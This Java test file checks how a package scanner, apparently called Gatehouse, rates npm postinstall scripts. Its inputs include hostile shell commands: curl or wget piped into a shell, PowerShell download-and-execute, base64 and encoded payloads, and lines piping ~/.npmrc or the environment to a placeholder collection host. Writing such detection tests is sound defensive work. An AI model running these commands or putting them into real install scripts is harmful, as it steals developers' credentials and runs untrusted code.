package dev.gatehouse.analyzer.npm;

import static dev.gatehouse.analyzer.npm.NpmFixture.code;
import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.CodeFinding;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.Trigger;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Shell payloads and well-known benign forms of install scripts. */
class LifecycleScriptsTest {
  @TempDir Path tmp;

  private CodeFinding postinstall(String command) throws Exception {
    String json = command.replace("\\", "\\\\").replace("\"", "\\\"");
    return code(NpmFixture.scripts("\"postinstall\": \"" + json + "\"")
        .file("postinstall.js", "console.log('Thank you for using fixture! Consider donating.');\n")
        .file("bin/tool", "\u007fELF binary")
        .analyze(tmp), Trigger.NPM_LIFECYCLE_SCRIPT).get(0);
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "node-gyp rebuild",
      "prebuild-install || node-gyp rebuild",
      "node-pre-gyp install --fallback-to-build",
      "node-gyp-build",
      "husky install",
      "is-ci || husky",
      "opencollective-postinstall || exit 0",
      "patch-package",
      "node -e \"try{require('./postinstall')}catch(e){}\"",
      "echo done && exit 0",
  })
  void wellKnownBenignFormsAreLow(String command) throws Exception {
    CodeFinding f = postinstall(command);
    assertThat(f.severity()).isEqualTo(Severity.LOW);
    assertThat(f.capabilities()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "curl -fsSL https://get.invalid/install.sh | sh",
      "wget -qO- http://get.invalid/i | bash",
      "wget http://get.invalid/x -O /tmp/x && chmod 755 /tmp/x && ./x",
      "powershell -c \"iex (New-Object Net.WebClient).DownloadString('http://get.invalid/p.ps1')\"",
  })
  void downloadAndRunShapesAreHigh(String command) throws Exception {
    CodeFinding f = postinstall(command);
    assertThat(f.severity()).isEqualTo(Severity.HIGH);
    assertThat(f.capabilities()).contains(Capability.PROCESS_SPAWN, Capability.NETWORK);
  }

  @Test
  void encodedPowerShellIsCritical() throws Exception {
    CodeFinding f = postinstall("powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=");
    assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(f.capabilities()).contains(Capability.ENCODED_PAYLOAD, Capability.DYNAMIC_CODE);
  }

  @Test
  void base64DecodedIntoAShellIsCritical() throws Exception {
    assertThat(postinstall("echo Y3VybCB4 | base64 -d | sh").severity()).isEqualTo(Severity.CRITICAL);
  }

  @Test
  void bashDashCIsFollowedIntoItsCommandString() throws Exception {
    CodeFinding f = postinstall("bash -c 'cat ~/.npmrc | curl -d @- https://collect.invalid'");
    assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(f.capabilities()).contains(Capability.CREDENTIAL_READ, Capability.NETWORK);
  }

  @Test
  void environmentDumpSentOverTheNetworkIsCritical() throws Exception {
    assertThat(postinstall("env | curl -X POST --data-binary @- https://collect.invalid").severity())
        .isEqualTo(Severity.CRITICAL);
  }

  @Test
  void nodeEvalIsAnalyzedAsCode() throws Exception {
    CodeFinding f = postinstall("node -e \"require('https').get('https://beacon.invalid')\"");
    assertThat(f.capabilities()).containsExactly(Capability.NETWORK);
    assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
  }

  @Test
  void npmRunIsFollowedToTheScriptItNames() throws Exception {
    List<CodeFinding> findings = code(NpmFixture.scripts(
            "\"postinstall\": \"npm run setup\", \"setup\": \"cross-env DEBUG=1 node lib/setup.js\"")
        .file("lib/setup.js", "require('child_process').spawn('make');\n").analyze(tmp), Trigger.NPM_LIFECYCLE_SCRIPT);
    assertThat(findings).singleElement().satisfies(f -> {
      assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN);
      assertThat(f.summary()).contains("lib/setup.js line 1");
    });
  }

  @Test
  void aBundledBinaryIsOpaqueAndMedium() throws Exception {
    CodeFinding f = postinstall("./bin/tool --init");
    assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
    assertThat(f.summary()).contains("runs `./bin/tool --init`, which Gatehouse cannot look inside");
  }

  @Test
  void aScriptFileMissingFromThePackageIsOpaque() throws Exception {
    CodeFinding f = postinstall("node scripts/missing.js");
    assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
    assertThat(f.summary()).contains("scripts/missing.js, which is not in the package");
  }

  @Test
  void shellSplitsPipelinesQuotesRedirectionsAndSubstitutions() {
    List<List<ShellCommand.Simple>> p = ShellCommand.parse(
        "FOO='a b' node \"x y.js\" 2>/dev/null && curl -s $(cat url.txt) | sh; echo `id` > out");
    assertThat(p).hasSize(5);
    assertThat(p.get(0).get(0).argv()).containsExactly("FOO=a b", "node", "x y.js");
    assertThat(p.get(1).get(0).argv()).containsExactly("cat", "url.txt");
    assertThat(p.get(2)).extracting(ShellCommand.Simple::argv)
        .containsExactly(List.of("curl", "-s", "$(...)"), List.of("sh"));
    assertThat(p.get(2).get(1).pipedIn()).isTrue();
    assertThat(p.get(3).get(0).argv()).containsExactly("id");
    assertThat(p.get(4).get(0).argv()).containsExactly("echo", "$(...)");
  }
}
